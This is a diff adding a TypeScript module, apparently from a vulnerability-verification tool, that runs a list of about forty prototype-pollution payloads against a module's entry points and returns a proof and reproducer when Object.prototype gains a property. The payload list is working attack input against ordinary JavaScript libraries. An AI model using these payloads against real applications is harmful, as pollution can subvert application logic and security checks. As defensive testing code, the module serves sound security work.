@@ -1,0 +1,76 @@
+import type { Proof } from '@filewright/contracts'
+import { lineOf, shownCall, type Case } from './case.js'
+import { reproducerOf } from './reproducer.js'
+
+const nested = (...keys: string[]): string =>
+  `JSON.parse('${keys.reduceRight((inner, key) => `{"${key}":${inner}}`, '"yes"')}')`
+const byProto = nested('__proto__', 'polluted')
+const byConstructor = nested('constructor', 'prototype', 'polluted')
+
+/** Arguments of functions that merge, set or parse nested properties, the simplest first. */
+const attempts = [
+  `{}, ${byProto}`,
+  `{}, "__proto__.polluted", "yes"`,
+  `{}, ["__proto__", "polluted"], "yes"`,
+  byProto,
+  `"__proto__.polluted", "yes"`,
+  `{}, "__proto__", "polluted", "yes"`,
+  `"__proto__.polluted", "yes", {}`,
+  `"__proto__.polluted", {}, "yes"`,
+  `["__proto__", "polluted"], "yes", {}`,
+  `{}, "yes", "__proto__.polluted"`,
+  `{}, {}, ${byProto}`,
+  `true, {}, ${byProto}`,
+  `[{}, ${byProto}]`,
+  `{}, [${byProto}]`,
+  `${byProto}, {}`,
+  `{}, ${byConstructor}`,
+  `{}, "constructor.prototype.polluted", "yes"`,
+  `{}, ["constructor", "prototype", "polluted"], "yes"`,
+  `true, {}, ${byConstructor}`,
+  `{}, "/__proto__/polluted", "yes"`,
+  `{}, "__proto__[polluted]", "yes"`,
+  `{}, "/constructor/prototype/polluted", "yes"`,
+  `{}, [["__proto__"], "polluted"], "yes"`,
+  `{}, [["__proto__"], ["polluted"]], "yes"`,
+  `"__proto__", "polluted", "yes"`,
+  `["__proto__", "polluted"], "yes"`,
+  `{ "__proto__.polluted": "yes" }`,
+  `{}, { "__proto__.polluted": "yes" }`,
+  `{ "constructor.prototype.polluted": "yes" }`,
+  `"__proto__[polluted]=yes"`,
+  `"__proto__.polluted=yes"`,
+  `"?__proto__[polluted]=yes"`,
+  `"[__proto__]\\npolluted=yes"`,
+  `["--__proto__.polluted", "yes"]`,
+  `["--__proto__.polluted=yes"]`,
+  `[{ name: "__proto__.polluted", value: "yes" }]`,
+  `[["__proto__.polluted", "yes"]]`,
+  `{}, [{ op: "add", path: "/__proto__/polluted", value: "yes" }]`,
+  `{}, { op: "add", path: "/__proto__/polluted", value: "yes" }`
+]
+
+/** `Object.prototype` has a new property after the call. */
+export async function provePollution({
+  code,
+  module,
+  loaded,
+  entries,
+  confirm
+}: Case): Promise<Proof | null> {
+  for (const args of attempts) {
+    for (const entry of entries) {
+      const call = `${entry.access}(${args})`
+      if ((await loaded.run(call))?.isPolluted !== true) continue
+      if ((await confirm(call))?.isPolluted !== true) continue
+      const effect = 'every object has the property `polluted`'
+      return {
+        input: shownCall(entry, args),
+        effect,
+        reproducer: reproducerOf(module, call, { kind: 'pollution' }, effect),
+        entry_line: lineOf(entry, code)
+      }
+    }
+  }
+  return null
+}
